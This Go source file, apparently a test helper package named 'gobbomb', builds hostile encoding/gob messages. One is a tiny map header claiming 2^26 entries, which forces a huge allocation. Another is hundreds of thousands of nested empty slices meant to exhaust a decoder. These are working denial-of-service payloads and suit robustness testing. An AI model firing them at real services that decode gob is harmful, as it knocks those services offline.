package gobbomb

const frame = 9 // room for a gob unsigned int

// Uint is x in gob's unsigned encoding.
func Uint(x uint64) []byte {
	if x < 0x80 {
		return []byte{byte(x)}
	}
	var b [frame]byte
	n := 0
	for i := frame - 1; x > 0; i-- {
		b[i] = byte(x)
		x >>= 8
		n++
	}
	b[frame-n-1] = byte(-n)
	return b[frame-n-1:]
}

// Message frames body as one gob message.
func Message(body []byte) []byte {
	return append(Uint(uint64(len(body))), body...)
}

// MapHeader is a map[string]any whose header claims n entries and holds
// none: 50 bytes for n = 2^26, which gob alone answers with
// reflect.MakeMapWithSize(n).
func MapHeader(n uint64) []byte {
	// The definition of map[string]interface {} (type id 64) as gob writes
	// it, then the value: id 64, byte count, singleton delta 0, the map's
	// length, no entries.
	def := append([]byte("\x10\x00\x17map[string]interface {}"), 0x7f, 0x04, 0x01, 0x02, 0xff, 0x80, 0x00, 0x01, 0x0c, 0x01, 0x10, 0x00, 0x00)
	val := append([]byte{0xff, 0x80, 0x02, 0x00}, Uint(n)...)
	return append(Message(def), Message(val)...)
}

// NestedSlices is levels []any nested in one another, the innermost
// empty: about 21 bytes a level (600,000 levels in 12.6 MB).
func NestedSlices(levels int) []byte {
	// The definition of []interface {} (type id 65), then the value: an
	// interface value "[]interface {}" of one element per level. Byte
	// counts are 0: gob does not read them when it decodes.
	def := append([]byte("\x10\x00\x0e[]interface {}"), 0xff, 0x81, 0x02, 0x01, 0x02, 0xff, 0x82, 0x00, 0x01, 0x10, 0x00, 0x00)
	unit := append([]byte("\x0e[]interface {}"), 0xff, 0x82, 0x00, 0x00, 0x01)
	body := make([]byte, 0, 5+levels*len(unit))
	body = append(body, 0xff, 0x82, 0x00, 0x00, 0x01) // the top-level value, a []any of one
	for range levels - 2 {
		body = append(body, unit...)
	}
	body = append(body, unit[:len(unit)-1]...)
	body = append(body, 0x00) // the innermost: empty
	return append(Message(def), Message(body)...)
}

// NestedValue is the Go value of levels []any nested in one another, what
// a handler returning such a result holds.
func NestedValue(levels int) any {
	var v any = []any{}
	for range levels - 1 {
		v = []any{v}
	}
	return v
}
